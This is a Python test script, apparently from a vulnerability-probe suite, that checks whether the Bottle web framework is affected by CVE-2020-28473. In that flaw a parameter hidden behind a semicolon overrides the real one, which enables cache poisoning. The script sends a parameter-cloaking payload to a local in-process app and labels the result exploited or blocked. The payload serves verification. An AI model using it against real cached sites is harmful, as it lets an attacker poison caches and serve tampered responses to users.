# /// vertice-probe
# id = "PYSEC-2021-129"
# aliases = ["CVE-2020-28473", "GHSA-qhx9-7hx7-cp4r", "SNYK-PYTHON-BOTTLE-1017108"]
# package = "bottle"
# summary = """\
#   Query strings and forms are split at semicolons too, so a parameter that a cache in front does not see can \
#   change the answer which the cache stores."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:N/I:H/A:H" }]
# cwe = ["CWE-444"]
# kind = "cache-poisoning"
# symbols = [
#   "bottle.request",
#   "bottle.Bottle",
#   "bottle.route",
#   "bottle.run",
#   "bottle.default_app",
#   "bottle.BaseRequest",
# ]
#
# [[affected]]
# package = "bottle"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.12.19" }] }]
#
# [cases]
# attack = "a parameter hidden behind a semicolon in another one's value overrides the true one"
# [cases.variants]
# form = "the same in the body of a POSTed form"
# [cases.controls]
# ampersand = "ordinary parameters in query and form are read"
#
# [test]
# vulnerable = "0.12.18"
# fixed = "0.12.19"
# ///
"""CVE-2020-28473: parameters cloaked behind a semicolon."""

import inspect
import io
import json
import sys
from wsgiref.util import setup_testing_defaults

if not hasattr(inspect, "getargspec"):  # Bottle of that time wants it; it went with Python 3.11
    inspect.getargspec = lambda function: inspect.getfullargspec(function)[:4]


def call(query="", body=None):
    """The JSON that a small Bottle application answers with: what it saw."""
    import bottle

    app = bottle.Bottle()

    @app.route("/", method=["GET", "POST"])
    def show():
        return {"query": dict(bottle.request.query), "forms": dict(bottle.request.forms)}

    environ = {"QUERY_STRING": query, "REQUEST_METHOD": "POST" if body else "GET"}
    setup_testing_defaults(environ)
    if body:
        environ["wsgi.input"] = io.BytesIO(body)
        environ["CONTENT_LENGTH"] = str(len(body))
        environ["CONTENT_TYPE"] = "application/x-www-form-urlencoded"
    status = []
    answer = b"".join(app(environ, lambda line, headers, exc_info=None: status.append(line)))
    if not status or not status[0].startswith("200"):
        raise RuntimeError("the application answered %r" % status)
    return json.loads(answer.decode())


def judge(seen):
    if seen.get("callback") == "evil":
        return "exploited", "the cloaked parameter won: %s" % json.dumps(seen, sort_keys=True)
    if seen == {"callback": "good", "utm_content": "1;callback=evil"}:
        return "blocked", "the semicolon is part of the value: %s" % json.dumps(seen, sort_keys=True)
    raise RuntimeError("unexpected parameters %r" % seen)


def attack():
    return judge(call("callback=good&utm_content=1;callback=evil")["query"])


def form():
    return judge(call(body=b"callback=good&utm_content=1;callback=evil")["forms"])


def ampersand():
    seen = call("a=1&b=two+words", b"c=%C3%A9&d=")
    good = seen["query"] == {"a": "1", "b": "two words"} and sorted(seen["forms"]) == ["c", "d"]
    return ("works" if good else "broken"), json.dumps(seen, sort_keys=True)


CASES = {"attack": attack, "form": form, "ampersand": ampersand}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
